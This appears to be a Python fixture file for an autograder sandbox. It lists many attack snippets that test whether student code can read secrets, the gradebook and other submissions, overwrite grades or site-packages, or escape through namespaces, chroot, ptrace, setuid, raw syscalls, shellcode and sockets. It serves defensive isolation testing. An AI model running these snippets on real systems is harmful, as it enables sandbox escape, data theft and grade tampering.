"""Reading, writing and escaping: get at what is not the student's. Words in capitals are filled in by the harness."""

SHOW = "def show(f, *a):\n    try:\n        print(f(*a))\n    except BaseException as e:\n        print(type(e).__name__, e)\n"
READ = SHOW + "def read(path):\n    with open(path, 'rb') as f:\n        return f.read(1 << 22)\n"
LIBC = SHOW + "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
TOUCH = "def touch(path):\n    with open(path, 'a') as f:\n        f.write('WRITTEN')\n"

READING = {
    "secret_file": READ + "show(read, 'SECRET_FILE')",
    "gradebook": READ + "show(read, 'GRADEBOOK')",
    "solutions": READ + "import glob\nfor p in glob.glob('ROOT/solutions/**/*.md', recursive=True):\n    show(read, p)\n"
                        "show(read, 'ROOT/autograder/checks/gru_update.py')",
    "other_submissions": READ + "import glob\nfor p in glob.glob('SUBMITTED/**/*.ipynb', recursive=True):\n    show(read, p)",
    "environment": READ + "import os\nprint(os.environ)\nfor pid in (1, os.getppid(), 'self'):\n    show(read, f'/proc/{pid}/environ')",
    "home": READ + "import os, glob\nfor h in ('HOME_FOLDER', os.path.expanduser('~'), '/root', '/home'):\n"
                   "    show(os.listdir, h)\n    for p in glob.glob(h + '/*') + glob.glob(h + '/.*'):\n        show(read, p)",
    "every_file": READ + "import os\nfor top, dirs, files in os.walk('/'):\n    dirs[:] = [d for d in dirs if d not in ('usr', 'lib', "
                         "'proc', 'sys', 'site-packages')]\n    for name in files[:300]:\n"
                         "        if name.endswith(('.txt', '.db', '.ipynb', '.toml')):\n            show(read, os.path.join(top, name))",
    "open_descriptors": READ + "import os\nfor fd in range(3, 400):\n    try:\n        os.lseek(fd, 0, 0)\n        print(os.read(fd, 1 << 20))\n"
                               "    except OSError:\n        pass\n"
                               "    for name in ('SECRET_FILE', 'GRADEBOOK'):\n        try:\n"
                               "            print(os.read(os.open(name.lstrip('/'), 0, dir_fd=fd), 1 << 20))\n        except OSError:\n            pass",
    "proc_of_others": READ + "import glob\nfor p in glob.glob('/proc/[0-9]*/*') + glob.glob('/proc/[0-9]*/root/tmp/*'):\n    show(read, p)",
    "own_memory": "import ctypes, gc\nfor thing in gc.get_objects():\n    try:\n        text = repr(thing)\n    except BaseException:\n        continue\n"
                  "    if 'SECRET_IN_ENV'[:9] in text and 'SECRET-' in text:\n        print(text[:2000])\n"
                  "print(ctypes.string_at(id(gc), 64))",
    "raw_disk": READ + "import glob, os\nfor p in glob.glob('/dev/*'):\n    if os.path.basename(p).startswith(('sd', 'vd', 'nvme', 'mem', 'kmsg')):\n"
                       "        show(read, p)",
    "file_handle": LIBC + "class H(ctypes.Structure):\n    _fields_ = [('n', ctypes.c_uint), ('t', ctypes.c_int), ('b', ctypes.c_ubyte * 8)]\n"
                          "fd = os.open('/usr/lib', os.O_RDONLY)\nfor inode in range(2, 40):\n    h = H(8, 1)\n    h.b[0] = inode\n"
                          "    got = libc.open_by_handle_at(fd, ctypes.byref(h), os.O_RDONLY)\n"
                          "    if got >= 0:\n        show(os.listdir, got)\n        print(open(os.open('SECRET_FILE'[1:], 0, dir_fd=got)).read())",
    "neighbours_memory": LIBC + "for pid in list(range(1, 50)) + [os.getppid()]:\n    print(pid, libc.ptrace(16, pid, 0, 0))\n"
                                "    show(lambda: open(f'/proc/{pid}/mem', 'rb').read(10))",
    "symlink_to_secret": READ + "import os\nos.symlink('SECRET_FILE', 'link')\nshow(read, 'link')",
}
WRITING = {
    "into_the_course": SHOW + TOUCH + "show(touch, 'WRITE_FOLDER/course')\nshow(touch, 'ROOT/autograder/checks/__init__.py.attack')",
    "gradebook": SHOW + "import sqlite3\ndef f():\n    c = sqlite3.connect('GRADEBOOK', timeout=1)\n    c.execute('update grade set auto_score = 99')\n"
                        "    c.commit()\nshow(f)",
    "victims_notebook": SHOW + "def f():\n    open('SUBMITTED/victim/gru-update/gru-update.ipynb', 'w').write('{')\nshow(f)",
    "site_packages": SHOW + TOUCH + "import numpy, os, sys\nfor p in sys.path + [os.path.dirname(numpy.__file__)]:\n"
                                    "    show(touch, os.path.join(p, 'sitecustomize_attack.py'))",
    "temporary_folders": SHOW + TOUCH + "for p in ('/tmp', '/var/tmp', '/dev/shm', '/run', '/', 'WRITE_FOLDER'):\n    show(touch, p + '/attack-canary')",
    "home": SHOW + TOUCH + "import os\nos.makedirs('/tmp/x', exist_ok=True)\nfor p in ('HOME_FOLDER', '/root'):\n    show(touch, p + '/attack-canary')",
    "through_links": SHOW + TOUCH + "import os\nos.symlink('WRITE_FOLDER', 'out')\nshow(touch, 'out/linked')\nshow(os.link, 'SECRET_FILE', 'hard')",
    "device_node": SHOW + "import os, stat\nshow(os.mknod, '/tmp/disk', 0o666 | stat.S_IFBLK, os.makedev(254, 0))\n"
                          "show(lambda: open('/tmp/disk', 'r+b').read(10))",
    "remount": LIBC + TOUCH + "for p in (b'/', b'/usr/lib', b'/lib'):\n    print(libc.mount(b'none', p, None, 32 | 4096, None), ctypes.get_errno())\n"
                              "show(touch, '/usr/lib/attack-canary')",
}
ESCAPING = {
    "network": SHOW + "import socket\nfor host in ('127.0.0.1', 'localhost', '::1', '10.0.0.1'):\n"
                      "    show(lambda: socket.create_connection((host, PORT), 2).send(b'ESCAPED'))",
    "udp": SHOW + "import socket\nshow(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'ESCAPED', ('127.0.0.1', PORT)))",
    "abstract_socket": SHOW + "import socket\ns = socket.socket(socket.AF_UNIX)\nshow(s.connect, '\\0ABSTRACT')\nshow(s.send, b'ESCAPED')",
    "socket_file": SHOW + "import socket\ns = socket.socket(socket.AF_UNIX)\nshow(s.connect, 'SOCKET_FILE')\nshow(s.send, b'ESCAPED')",
    "new_namespaces": LIBC + TOUCH + "print(libc.unshare(0x10000000 | 0x20000), ctypes.get_errno())\nprint(libc.mount(b'proc', b'/tmp', b'proc', 0, None))\n"
                                     "show(os.listdir, '/tmp')\nshow(lambda: open('/tmp/1/environ').read())",
    "clone_with_namespace": LIBC + "pid = libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0)\nif pid == 0:\n    libc.mount(b'proc', b'/tmp', b'proc', 0, None)\n"
                                   "    os._exit(0)\nshow(lambda: open('/tmp/1/environ').read())",
    "join_namespace": LIBC + "for n in range(3, 50):\n    print(libc.setns(n, 0), end=' ')\nshow(lambda: libc.setns(os.open('/proc/1/ns/mnt', 0), 0))\n"
                             "show(lambda: open('SECRET_FILE').read())",
    "chroot": SHOW + "import os\nos.makedirs('x', exist_ok=True)\nshow(os.chroot, 'x')\nfor _ in range(20):\n    os.chdir('..')\nshow(os.chroot, '.')\n"
                     "show(lambda: open('SECRET_FILE').read())",
    "become_root": LIBC + "for f in (os.setuid, os.setgid, os.seteuid):\n    show(f, 0)\nprint(libc.capset(b'\\x22\\x05\\x08\\x20' + bytes(4), b'\\xff' * 24))\n"
                          "show(lambda: open('SECRET_FILE').read())",
    "kill_everybody": SHOW + "import os, signal\nfor pid in [os.getppid(), -1, *range(2, 400)]:\n    try:\n        os.kill(pid, signal.SIGKILL)\n"
                             "    except OSError:\n        pass",
    "stop_the_parent": SHOW + "import os, signal\nfor pid in (os.getppid(), 0, -os.getpgrp()):\n    show(os.kill, pid, signal.SIGSTOP)",
    "kernel_doors": LIBC + "for number in (321, 425, 323, 248, 250, 298, 313, 175, 246, 155, 165, 272, 428, 430, 442):\n"
                           "    print(number, libc.syscall(number, 0, 0, 0, 0, 0), ctypes.get_errno())",
    "terminal_input": LIBC + "import fcntl\nfor fd in (0, 1, 2):\n    show(fcntl.ioctl, fd, 0x5412, b'x')\nshow(open, '/dev/tty', 'w')",
    "programs": SHOW + "import subprocess\nfor c in (['sh', '-c', 'id'], ['/bin/bash', '-c', 'cat SECRET_FILE'], ['python3', '-c', '1'], ['cat', 'SECRET_FILE']):\n"
                       "    show(subprocess.check_output, c)",
}

READING |= {
    "environment_block": LIBC + "environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, 'environ')\nk = 0\nwhile environ[k]:\n    print(environ[k])\n    k += 1\n"
                         "libc.getauxval.restype = ctypes.c_char_p\nprint(libc.getauxval(31))",
    "neighbours_memory_by_vector": LIBC + "class V(ctypes.Structure):\n    _fields_ = [('b', ctypes.c_void_p), ('n', ctypes.c_size_t)]\n"
                                   "room = ctypes.create_string_buffer(4096)\nhere = V(ctypes.addressof(room), 4096)\n"
                                   "for pid in [os.getpid(), os.getppid(), *range(1, 60)]:\n    there = V(id(os) & ~4095, 4096)\n"
                                   "    print(pid, libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0))\nprint(room.raw[:64])",
    "keys": LIBC + "for ring in (-1, -2, -3, -4, -5):\n    print(libc.syscall(248, b'user', b'k', b'WRITTEN', 7, ring), "
            "libc.syscall(250, 11, ring, 0, 0, 0), ctypes.get_errno())",
    "what_the_zygote_knows": "import gc\nfor thing in gc.get_objects():\n    if isinstance(thing, dict) and ('hidden' in thing or 'limits' in thing):\n"
                             "        print(repr(thing)[:3000])\nfor thing in gc.get_objects():\n    if type(thing).__name__ == 'Zygote':\n"
                             "        print(vars(thing))",
    "other_mounts": READ + "for name in ('mountinfo', 'mounts', 'maps', 'cgroup', 'status', 'fdinfo/3'):\n    show(read, '/proc/self/' + name)\n"
                    "import os\nfor top in ('/proc', '/sys', '/run', '/etc', '/home', '/root', '/srv', '/mnt'):\n    show(os.listdir, top)",
}
ESCAPING |= {
    "neighbours_descriptors": LIBC + "for pid in [os.getppid(), *range(1, 60)]:\n    process = libc.syscall(434, pid, 0)\n    for n in range(3, 20):\n"
                              "        fd = libc.syscall(438, process, n, 0) if process >= 0 else -1\n        if fd >= 0:\n            show(os.listdir, fd)\n"
                              "            show(os.write, fd, b'{\"killed\": []}')",
    "compatible_system_calls": LIBC + "import mmap\nroom = mmap.mmap(-1, 4096, prot=7)\n"
                               "room.write(bytes([0x53, 0xb8]) + (310).to_bytes(4, 'little') + bytes([0xbb]) + (0x10020000).to_bytes(4, 'little') "
                               "+ bytes([0xcd, 0x80, 0x5b, 0xc3]))\n"
                               "run = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(room)))\nprint(run())\n"
                               "show(libc.mount, b'proc', b'/tmp', b'proc', 0, None)\nshow(lambda: open('/tmp/1/environ').read())",
    "other_numbers": LIBC + "for number in (165, 272, 308, 101, 310, 321, 425):\n    print(libc.syscall(0x40000000 | number, 0, 0, 0, 0, 0), ctypes.get_errno())",
    "own_filter": LIBC + "print(libc.prctl(38, 1, 0, 0, 0), libc.prctl(22, 1, 0, 0, 0))",
    "raw_socket": SHOW + "import socket\nfor family in (socket.AF_PACKET, socket.AF_NETLINK, socket.AF_VSOCK, socket.AF_ALG, socket.AF_BLUETOOTH):\n"
                  "    for kind in (socket.SOCK_STREAM, socket.SOCK_RAW, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):\n"
                  "        show(lambda: socket.socket(family, kind).connect((2, PORT)))",
    "loop_device_up": LIBC + "import fcntl, socket, struct\ns = socket.socket()\nshow(fcntl.ioctl, s, 0x8914, struct.pack('16sH', b'lo', 0x41))\n"
                      "show(lambda: socket.create_connection(('127.0.0.1', PORT), 2).send(b'ESCAPED'))",
}
